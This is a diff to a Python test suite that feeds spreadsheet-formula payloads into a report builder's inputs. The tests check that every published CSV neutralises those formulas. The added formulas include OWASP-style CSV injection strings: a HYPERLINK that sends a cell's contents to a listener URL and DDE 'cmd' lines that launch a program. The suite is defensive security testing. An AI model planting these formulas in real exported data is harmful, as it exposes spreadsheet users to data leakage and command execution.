@@ -6,16 +6,20 @@ summary and a prose template carry script, event-handler, iframe, ``javascript:`
 ``file://`` and ``http://`` payloads. The poisoned report is built once, and every
 output is read back: the HTML pages (parsed), the SVG charts (parsed), the PDF
 (attachments and link targets) and the API's JSON. A local HTTP server named by
-the payloads must see no request.
+the payloads must see no request. Other items are spreadsheet formulas: no
+published CSV may hold one that a spreadsheet would run.
 """
 
 from __future__ import annotations
 
 import csv
+import io
+import re
 import shutil
 import threading
 import urllib.request
 import xml.etree.ElementTree as ET
+import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass
 from html.parser import HTMLParser
@@ -33,14 +37,29 @@ from yearbook.api import create_app
 from yearbook.build import build
 from yearbook.disclosure.readers import pdf_text
 from yearbook.disclosure.serving import serve_api
+from yearbook.figures import read_figures
 from yearbook.publish import pdf_name
 from yearbook.publish.pdf import local_file, site_fetcher
 from yearbook.report import load_report
+from yearbook.spreadsheet import FORMULA_START
 from yearbook.synth.submissions import read_submissions
 from yearbook.warehouse import Warehouse
 
 LISTED = "opr.program_offices"
 """The submitted list whose items are poisoned; the OPR prose names every item."""
+FORMULAS = "hsi.opioid_strategy_goals"
+"""The submitted list whose items are spreadsheet formulas."""
+
+
+def formulas(origin: str) -> list[str]:
+    """Cells a spreadsheet would run (OWASP's CSV injection examples)."""
+    return [
+        f'=HYPERLINK("{origin}/csv?leak="&A1,"Click for details")',
+        "+1+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+    ]
 
 
 def payloads(origin: str) -> list[str]:
@@ -97,20 +116,22 @@ def listener() -> Iterator[tuple[str, list[str]]]:
         server.server_close()
 
 
-def _poison_submissions(folder: Path, bad: list[str]) -> None:
+def _poison_submissions(folder: Path, bad: list[str], cells: list[str]) -> None:
     path = folder / "submissions.csv"
     with path.open(newline="", encoding="utf-8") as f:
         rows = list(csv.DictReader(f))
     listed = [r for r in rows if r["metric"] == LISTED]
     for n, row in enumerate(listed):
         row["item"] = f"Office {n}{bad[n % len(bad)]}{bad[(n + 6) % len(bad)]}"
+    for row, formula in zip([r for r in rows if r["metric"] == FORMULAS], cells, strict=False):
+        row["item"] = formula
     with path.open("w", newline="", encoding="utf-8") as f:
         writer = csv.DictWriter(f, fieldnames=list(rows[0]))
         writer.writeheader()
         writer.writerows(rows)
 
 
-def _poison_declarations(folder: Path, bad: list[str]) -> None:
+def _poison_declarations(folder: Path, bad: list[str], cells: list[str]) -> None:
     spec = yaml.safe_load((folder / "report.yaml").read_text(encoding="utf-8"))
     spec["summary"] += " " + bad[0] + bad[3]
     spec["breakdowns"]["item"] = "Item" + bad[1]
@@ -121,7 +142,7 @@ def _poison_declarations(folder: Path, bad: list[str]) -> None:
     metrics = yaml.safe_load(path.read_text(encoding="utf-8"))
     decl = next(m for m in metrics if m["id"] == LISTED)
     decl["label"] += bad[2]
-    decl["definition"] += " " + bad[5] + bad[10]
+    decl["definition"] = cells[0] + " " + decl["definition"] + " " + bad[5] + bad[10]
     path.write_text(yaml.safe_dump(metrics, sort_keys=False), encoding="utf-8")
 
 
@@ -142,8 +163,8 @@ def poisoned(
     root = tmp_path_factory.mktemp("poisoned")
     folder = root / "reports" / REPORT_DIR.name
     shutil.copytree(REPORT_DIR, folder)
-    _poison_submissions(folder, bad)
-    _poison_declarations(folder, bad)
+    _poison_submissions(folder, bad, formulas(origin))
+    _poison_declarations(folder, bad, formulas(origin))
     _poison_template(folder, bad)
     warehouse = Warehouse(root / "warehouse")
     shutil.copytree(demo_warehouse.root, warehouse.root, dirs_exist_ok=True)
@@ -401,3 +422,57 @@ def test_local_file_allows_only_files_inside_the_folder(
     else:
         with pytest.raises(ValueError, match="the PDF reads only"):
             local_file(absolute, site)
+
+
+# -- CSV: no formula for a spreadsheet to run -------------------------------------
+
+NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")
+
+
+def _published_csvs(out: Path) -> dict[str, str]:
+    """Every published CSV: the build's, the bundle's, and each one inside the zip."""
+    found = {"figures.csv": (out / "figures.csv").read_text(encoding="utf-8")}
+    for path in sorted((out / "data").glob("*.csv")):
+        found[f"data/{path.name}"] = path.read_text(encoding="utf-8")
+    for archive in sorted((out / "data").glob("*.zip")):
+        with zipfile.ZipFile(archive) as zf:
+            for name in zf.namelist():
+                if name.endswith(".csv"):
+                    found[f"{archive.name}!{name}"] = zf.read(name).decode("utf-8")
+    return found
+
+
+def _formula_cells(text: str) -> tuple[list[str], int, int]:
+    """Cells a spreadsheet would run; quoted (neutralised) cells; negative numbers."""
+    runs, quoted, negative = [], 0, 0
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            if NUMBER.match(cell):
+                negative += cell.startswith("-")
+            elif cell and cell[0] in FORMULA_START:
+                runs.append(cell[:60])
+            quoted += len(cell) > 1 and cell[0] == "'" and cell[1] in FORMULA_START
+    return runs, quoted, negative
+
+
+def test_no_published_csv_holds_a_formula(poisoned: Poisoned) -> None:
+    csvs = _published_csvs(poisoned.out)
+    assert {"figures.csv", "data/figures.csv", "data/metrics.csv"} <= set(csvs)
+    assert any("!" in name for name in csvs)  # the zip's own copies are read too
+    found = {name: _formula_cells(text) for name, text in csvs.items()}
+    assert {name: runs for name, (runs, _, _) in found.items() if runs} == {}
+    for name in ("figures.csv", "data/figures.csv"):
+        _, quoted, negative = found[name]
+        assert quoted >= len(formulas("")) - 1, name  # the poisoned items, neutralised
+        assert negative > 0, name  # decreases are still plain negative numbers
+
+
+def test_figures_csv_reads_back_as_written(poisoned: Poisoned) -> None:
+    """yearbook reading its own figures.csv gets the submitted items exactly."""
+    from_csv = read_figures(poisoned.out / "figures.csv")
+    from_parquet = read_figures(poisoned.out / "figures.parquet")
+    items = {f.breakdown_value for f in from_parquet if f.metric == FORMULAS and f.breakdown}
+    assert items and items == {
+        f.breakdown_value for f in from_csv if f.metric == FORMULAS and f.breakdown
+    }
+    assert any(item.startswith("=HYPERLINK") for item in items)
